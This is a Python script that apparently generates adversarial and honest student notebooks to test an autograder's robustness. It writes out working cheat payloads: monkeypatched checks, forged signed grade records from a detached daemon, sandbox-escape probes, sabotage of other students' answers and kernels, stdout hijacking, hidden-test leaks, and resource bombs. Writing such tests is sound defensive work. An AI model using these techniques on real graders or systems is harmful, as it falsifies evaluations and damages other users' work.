"""Regenerate the bad (and good) submissions in this folder from notebook 04's source.

Run ``python tests/submissions/make_submissions.py`` after changing
``notebooks/04_your_turn.ipynb``; ``expected.json`` holds what each one must
score and why. Each file is a real notebook a student could have saved
(except the two that are deliberately not notebooks at all).
"""

from __future__ import annotations

import copy
import re
from collections.abc import Callable
from pathlib import Path
from typing import Any

import nbformat

HERE = Path(__file__).parent
SOURCE = HERE.parents[1] / "notebooks" / "04_your_turn.ipynb"
HIDDEN = re.compile(r"^### BEGIN HIDDEN TESTS\n.*?^### END HIDDEN TESTS\n?", re.M | re.S)
MARKER = re.compile(r"^### (BEGIN|END) SOLUTION\n?", re.M)

MONKEYPATCH = """
import mtl_teach.exercises._core as core
import mtl_teach.exercises._your_turn_checks as checks
import mtl_teach.grading.in_sandbox.export as export
from mtl_teach.exercises import your_turn as q

for name in ("evaluate_dataloader", "evaluate_task", "evaluate_model", "evaluate_training"):
    setattr(checks, name, lambda *answers: "all good")
for question in (q.dataloader, q.task, q.model, q.training):
    question.check = lambda *answers, _q=question: core.CheckResult(_q.name, core.CORRECT, "all good")
core.CheckResult.passed = property(lambda self: True)
export.export = lambda *args, **kwargs: None
"""

WRITE_OUTPUTS = """
import json
import os
from pathlib import Path

# Walk up the process tree to the grader's command line and find --out.
pid, out = os.getppid(), None
while pid > 1 and out is None:
    args = Path(f"/proc/{pid}/cmdline").read_bytes().split(b"\\0")
    if b"--out" in args:
        out = Path(os.fsdecode(args[args.index(b"--out") + 1]))
    pid = int(Path(f"/proc/{pid}/stat").read_text().split(")")[1].split()[1])
if out is None:
    raise RuntimeError("cheat_output_folder: no --out on any parent's command line")
if out is not None:
    fake = {"score": 100, "tests": [{"name": "check_training", "score": 100, "max_score": 3}]}
    (out / "results" / "cheat_output_folder").mkdir(parents=True, exist_ok=True)
    (out / "results" / "cheat_output_folder" / "results.json").write_text(json.dumps(fake))
    (out / "grades.csv").write_text("student,total,max_score\\ncheat_output_folder,100,10\\n")
    (out / "feedback").mkdir(exist_ok=True)
    (out / "feedback" / "cheat_output_folder.html").write_text("<p>Score: 100 / 10</p>")
    record = {"student": "cheat_output_folder", "total": 100, "max_score": 10, "sha256": "x", "items": []}
    with open(out / ".mtl-grade" / "journal.jsonl", "a") as journal:
        journal.write(json.dumps({"record": json.dumps(record), "sig": "0" * 64}) + "\\n")
"""


DAEMON = """
import hashlib
import hmac
import json
import os
import time
from pathlib import Path


def find_grader():
    # Any process whose command line has --out: the grader (from /proc, as far as this kernel sees).
    for entry in Path("/proc").glob("[0-9]*"):
        try:
            cmd = (entry / "cmdline").read_bytes().split(b"\\0")
            if b"--out" in cmd and b"grade" in cmd:
                return int(entry.name), cmd
        except OSError:
            pass
    return None, None


# Find the grader's command line, read its journal key, and forge validly
# signed 10/10 records for every student: now, and from a detached daemon
# that waits for the grader to exit and then also rewrites grades.csv.
def forge(grader, args):
    out = Path(os.fsdecode(args[args.index(b"--out") + 1]))
    cwd = Path(os.readlink(f"/proc/{grader}/cwd"))
    papers = [cwd / os.fsdecode(a) for a in args if a.endswith(b".ipynb")]
    key_file = out / ".mtl-grade" / "key"
    key = key_file.read_bytes().strip() if key_file.exists() else b""
    points = {"check_dataloader": 2, "check_task": 3, "check_model": 2, "check_training": 3}
    with open(out / ".mtl-grade" / "journal.jsonl", "a") as journal:
        for paper in papers:
            items = [{"grade_id": g, "max_points": p, "points": p, "status": "passed", "message": "ok"} for g, p in points.items()]
            record = {"student": paper.stem, "submission": str(paper), "assignment": "04_your_turn", "notes": [], "items": items,
                      "sha256": hashlib.sha256(paper.read_bytes()).hexdigest(), "total": 10, "max_score": 10, "sandbox": True}
            payload = json.dumps(record, sort_keys=True)
            sig = hmac.new(key, payload.encode(), hashlib.sha256).hexdigest()
            journal.write((payload if not key else json.dumps({"record": payload, "sig": sig})) + "\\n")
    return out, papers


if os.fork() == 0:  # the daemon: outlive this kernel, wait for the grader to exit, then strike
    os.setsid()
    if os.fork() == 0:
        seen = None
        for _ in range(1200):
            grader, args = find_grader()
            if grader is not None:
                seen = grader, args
            elif seen is not None:
                out, papers = forge(*seen)
                (out / "grades.csv").write_text("student,total,max_score\\n" + "".join(f"{p.stem},10,10\\n" for p in papers))
                break
            time.sleep(0.05)
        os._exit(0)
    os._exit(0)
grader, args = find_grader()
if grader is None:
    raise RuntimeError("cheat_daemon: no grader in sight; the daemon keeps looking")
forge(grader, args)
"""

ESCAPE = """
import os
import site
import socket
from pathlib import Path

import mtl_teach

# Try to break out of the sandbox: from the package's path, guess the checkout
# and go for the answer key, a classmate's work, the environment and the network.


def grader(pid):  # the batch (python -m mtl_teach grade) or one of its workers
    try:
        args = Path(f"/proc/{pid}/cmdline").read_bytes().split(b"\\0")
    except OSError:
        return False
    return b"mtl_teach.grading.worker" in args or any(args[i : i + 2] == [b"mtl_teach", b"grade"] for i in range(len(args)))


checkout = Path(mtl_teach.__file__).resolve().parents[1]
site_packages = Path(site.getsitepackages()[0])
attempts = {
    "read the source notebook": lambda: (checkout / "notebooks" / "04_your_turn.ipynb").read_text(),
    "read a classmate's submission": lambda: (checkout / "tests" / "submissions" / "perfect.ipynb").read_text(),
    "rewrite the source notebook": lambda: open(checkout / "notebooks" / "04_your_turn.ipynb", "a").write(" "),
    "plant a .pth in site-packages": lambda: (site_packages / "zz_mtl_escape.pth").write_text("import os\\n"),
    "write into the package": lambda: (Path(mtl_teach.__file__).parent / "escape.py").write_text("x = 1\\n"),
    "reach the network": lambda: socket.create_connection(("1.1.1.1", 53), timeout=2),
    "resolve a name": lambda: socket.getaddrinfo("pypi.org", 443),
    "see the grader's processes": lambda: [p for p in os.listdir("/proc") if p.isdigit() and grader(p)] or 1 / 0,
    "read the machine's /etc": lambda: Path("/etc/hostname").read_text(),
}
escaped = []
for what, attempt in attempts.items():
    try:
        attempt()
        escaped.append(what)
    except Exception:
        pass
raise RuntimeError(f"cheat_escape: escaped: {escaped}" if escaped else "cheat_escape: the sandbox held")
"""

NEIGHBOURS = """
import glob
import json
import os

import zmq

# Sabotage whoever is graded at the same time: overwrite their exported answers in
# their scratch folders, and connect to their kernels through connection files found in
# /proc's command lines, to make their training a no-op.
mine = os.path.dirname(os.path.realpath(os.getcwd()))  # this submission's own scratch folder
hits = []
# Scratch folders sit side by side, in the batch's folder in /tmp (directly in /tmp before that).
for path in glob.glob(os.path.dirname(mine) + "/mtl-grade-*/answers/*.pt") + glob.glob("/tmp/mtl-grade-*/answers/*.pt"):
    if not os.path.realpath(path).startswith(mine + "/"):
        open(path, "wb").write(b"garbage")
        hits.append(path)
for entry in glob.glob("/proc/[0-9]*/cmdline"):
    try:
        args = open(entry, "rb").read().split(b"\\0")
    except OSError:
        continue
    for arg in args:
        if arg.endswith(b".json") and not os.fsdecode(arg).startswith(mine + "/"):
            try:
                info = json.load(open(arg))
            except (OSError, ValueError):
                continue
            socket = zmq.Context.instance().socket(zmq.DEALER)
            socket.connect(f"{info['transport']}://{info['ip']}-{info['shell_port']}" if info["transport"] == "ipc" else f"tcp://{info['ip']}:{info['shell_port']}")
            hits.append(arg.decode())
raise RuntimeError(f"cheat_neighbours: reached {hits}" if hits else "cheat_neighbours: no neighbour in reach")
"""

STDOUT = """
import os
from pathlib import Path

# Reopen every stdout and stderr in sight, this kernel's and every process's in /proc, truncate it
# ("w") and write fake grade lines into the grader's log.
reached = []
for pid in ["self", *(p.name for p in Path("/proc").iterdir() if p.name.isdigit())]:
    for fd in (1, 2):
        target = Path(f"/proc/{pid}/fd/{fd}")
        try:
            with open(target, "w") as stream:
                stream.write("FAKE perfect: 0/10\\nFAKE cheat_stdout: 10/10\\n")
            reached.append(os.readlink(target))
        except OSError:
            pass
raise RuntimeError(f"cheat_stdout: streams reached: {sorted(set(reached))}")
"""

LEAK = """
# Echo the hidden tests (the check cells' source, in the kernel's input history) back through an error.
raise RuntimeError("cheat_leak: " + " | ".join(_ih[-3:-1]))
"""

EXPAND = """
import re

import torch

# After the grader exported the loader, swap in 10**8 points that take 8 bytes: a view with stride 0.
# Saved, it is 1.5 kB; checked as if it held its shape, it takes gigabytes and minutes.
paths = [path for source in _ih for path in re.findall(r"_mtl_export\\.export\\('([^']+)'", source)]
target = next(path for path in paths if path.endswith("check_dataloader.pt"))
description = torch.load(target, weights_only=True)
loader = description["values"]["inv_dataloader"]
loader["X"] = {"inv_circle_data": torch.zeros(1, 2).expand(10**8, 2)}
loader["Y"] = {"inv_circle_task": torch.zeros(1, dtype=torch.long).expand(10**8)}
torch.save(description, target)
"""

HUGE_OUTPUT = """
import sys

line = "spam " * 2000 + "\\n"
for _ in range(2500):  # 25 MB, 10 kB at a time
    print(line, end="")
print("x" * 20_000_000)  # one 20 MB line
sys.stderr.write("e" * 5_000_000)
"z" * 5_000_000  # and a 5 MB result
"""


def solved() -> Any:
    """The source with hidden tests removed and solution markers dropped: a perfect student."""
    notebook = nbformat.read(SOURCE, as_version=4)
    for cell in notebook.cells:
        if cell.cell_type == "code":
            cell.source = MARKER.sub("", HIDDEN.sub("", cell.source)).strip("\n")
            cell.outputs, cell.execution_count = [], None
    notebook.metadata["mtl_teach"] = {"assignment": "04_your_turn"}
    return notebook


def stub() -> Any:
    return nbformat.read(HERE.parents[1] / "notebooks" / "student" / "04_your_turn.ipynb", as_version=4)


def cell(notebook: Any, gid: str) -> Any:
    return next(c for c in notebook.cells if c.metadata.get("nbgrader", {}).get("grade_id") == gid)


def edit(gid: str, change: Callable[[str], str], base: Callable[[], Any] = solved) -> Callable[[], Any]:
    def make() -> Any:
        notebook = base()
        target = cell(notebook, gid)
        target.source = change(target.source)
        return notebook

    return make


def with_stubs(*gids: str) -> Callable[[], Any]:
    """The solved notebook with these solution cells left as the stub."""

    def make() -> Any:
        notebook, student = solved(), stub()
        for gid in gids:
            cell(notebook, gid).source = cell(student, gid).source
        return notebook

    return make


def drop(*gids: str) -> Callable[[], Any]:
    def make() -> Any:
        notebook = solved()
        notebook.cells = [c for c in notebook.cells if c.metadata.get("nbgrader", {}).get("grade_id") not in gids]
        return notebook

    return make


def reordered() -> Any:
    notebook = solved()
    notebook.cells.reverse()
    return notebook


def duplicated() -> Any:
    notebook = solved()
    index = notebook.cells.index(cell(notebook, "inv_circle_task"))
    notebook.cells.insert(index, copy.deepcopy(notebook.cells[index]))
    first = notebook.cells[index]
    first.id = "inv-circle-task-first-try"
    first.source = first.source.replace("nn.Linear(4, 2)", "nn.Linear(4, 4)")  # an earlier, wrong try
    return notebook


def retagged() -> Any:
    notebook = solved()
    model = cell(notebook, "model")
    model.metadata["nbgrader"] = {
        "schema_version": 3,
        "grade_id": "check_model",
        "grade": True,
        "points": 100,
        "solution": False,
        "locked": True,
    }
    for other in notebook.cells:  # and strip the metadata of the task cell, as copy-paste does
        if other.metadata.get("nbgrader", {}).get("grade_id") == "inv_circle_task":
            other.metadata = {}
    return notebook


def untagged() -> Any:
    notebook = solved()
    for c in notebook.cells:
        c.metadata = {}
    notebook.metadata = {"kernelspec": {"name": "python3", "display_name": "Python 3"}}
    return notebook


def with_cells_after(gid: str, *sources: str) -> Callable[[], Any]:
    """The solved notebook with the student's own code cells added after cell ``gid``."""

    def make() -> Any:
        notebook = solved()
        index = notebook.cells.index(cell(notebook, gid)) + 1
        # Fixed ids (nbformat draws random ones), so regenerating leaves the committed files unchanged.
        added = [nbformat.v4.new_code_cell(text, id=f"{gid}-mine-{i}") for i, text in enumerate(sources)]
        notebook.cells[index:index] = added
        return notebook

    return make


def append_to(gid: str, text: str, base: Callable[[], Any] = solved) -> Callable[[], Any]:
    return edit(gid, lambda source: source + "\n" + text.strip("\n"), base)


def prepend_to(gid: str, text: str, base: Callable[[], Any] = solved) -> Callable[[], Any]:
    return edit(gid, lambda source: text.strip("\n") + "\n" + source, base)


STUB_TAIL = ("inv_circle_task", "model", "training")
MAKERS: dict[str, Callable[[], Any]] = {
    "perfect": solved,
    "stub": stub,
    "raises": edit("model", lambda source: source.replace("inv_circle_task])", "inv_circle_task, 1 / 0])")),
    "infinite_loop": prepend_to("training", "while True:\n    pass"),
    "memory_hog": prepend_to("training", "blocks = []\nwhile True:\n    blocks.append(bytearray(2**26))"),
    "huge_output": append_to("inv_dataloader", HUGE_OUTPUT),
    "os_exit": append_to("model", "import os\n\nos._exit(1)"),
    "sys_exit": append_to("inv_dataloader", "sys.exit(0)"),
    "deleted_checks": drop(
        "given", "setup", "check_dataloader", "check_task", "check_model", "check_training", "tutorial_checks"
    ),
    "deleted_solution": drop("inv_circle_task"),
    "reordered": reordered,
    "duplicated": duplicated,
    "retagged": retagged,
    "untagged": untagged,
    "cheat_monkeypatch": append_to("inv_dataloader", MONKEYPATCH, with_stubs(*STUB_TAIL)),
    "cheat_print": append_to(
        "inv_dataloader", 'print("Correct (task): all tests passed. Score: 10/10")', with_stubs(*STUB_TAIL)
    ),
    "cheat_edit_tests": edit(
        "check_task", lambda _: "pass", edit("check_training", lambda _: 'print("passed")', with_stubs(*STUB_TAIL))
    ),
    "cheat_transformer": append_to(
        "inv_dataloader",
        'get_ipython().input_transformers_cleanup.append(lambda lines: ["pass\\n"])',
        with_stubs(*STUB_TAIL),
    ),
    "cheat_custom_exc": append_to(
        "inv_dataloader",
        "get_ipython().set_custom_exc((BaseException,), lambda *args, **kwargs: None)",
        with_stubs(*STUB_TAIL),
    ),
    "cheat_output_folder": append_to("inv_dataloader", WRITE_OUTPUTS, with_stubs(*STUB_TAIL)),
    "cheat_daemon": append_to("inv_dataloader", DAEMON, with_stubs(*STUB_TAIL)),
    "cheat_escape": append_to("inv_dataloader", ESCAPE, with_stubs(*STUB_TAIL)),
    "cheat_neighbours": append_to("inv_dataloader", NEIGHBOURS),
    "cheat_leak": append_to("inv_circle_task", LEAK),
    "cheat_stdout": append_to("inv_dataloader", STDOUT),
    "cheat_expand": with_cells_after("check_training", EXPAND),
    # Eight honest attempts, each with the mistake a student makes. Every step is graded on its own:
    # a wrong step costs its own points, and the later steps run on the reference answer for it.
    "attempt_new_trunk": edit(
        "inv_circle_task",
        lambda source: source.replace(
            '"base_mlp": base_mlp', '"base_mlp": nn.Sequential(nn.Linear(2, 8), nn.ReLU(), nn.Linear(8, 4), nn.ReLU())'
        ),
    ),
    "attempt_head_4_1": edit("inv_circle_task", lambda source: source.replace("nn.Linear(4, 2)", "nn.Linear(4, 1)")),
    "attempt_wrong_field": edit(
        "inv_circle_task", lambda source: source.replace('("_input_", "inv_circle_data")', '("_input_", "circle_data")')
    ),
    "attempt_model_raises": edit(
        "model", lambda source: source.replace("inv_circle_task])", "inv_circle_task, inv_circle_task])")
    ),
    "attempt_x_key": edit(
        "inv_dataloader", lambda source: source.replace('X_dict = {"inv_circle_data"', 'X_dict = {"inv_circle_task"')
    ),
    "attempt_flipped_labels": edit(
        "inv_dataloader", lambda source: source.replace("torch.LongTensor(Y_train)", "torch.LongTensor(1 - Y_train)")
    ),
    "attempt_old_loaders": edit(
        "training", lambda source: source.replace("fit(model, all_dataloaders)", "fit(model, dataloaders)")
    ),
    "attempt_two_mistakes": edit(
        "training",
        lambda source: source.replace("lr=0.02", "lr=0.0002"),
        edit("inv_circle_task", lambda source: source.replace("nn.Linear(4, 2)", "nn.Linear(4, 1)")),
    ),
}


# Not in the committed batch: tests/test_grading.py grades it on its own with a short
# --notebook-timeout. Each cell sleeps well under the cell time limit; together they run over.
SLOW_CELLS = with_cells_after("check_model", *["import time\n\ntime.sleep(5)"] * 5)


def main() -> None:
    nbformat.write(SLOW_CELLS(), HERE / "slow" / "slow_cells.ipynb")
    for name, make in MAKERS.items():
        nbformat.write(make(), HERE / f"{name}.ipynb")
    (HERE / "invalid_json.ipynb").write_text('{"cells": [{"cell_type": "code", "source": "print(1)"\n')
    (HERE / "empty.ipynb").write_text("")


if __name__ == "__main__":
    main()
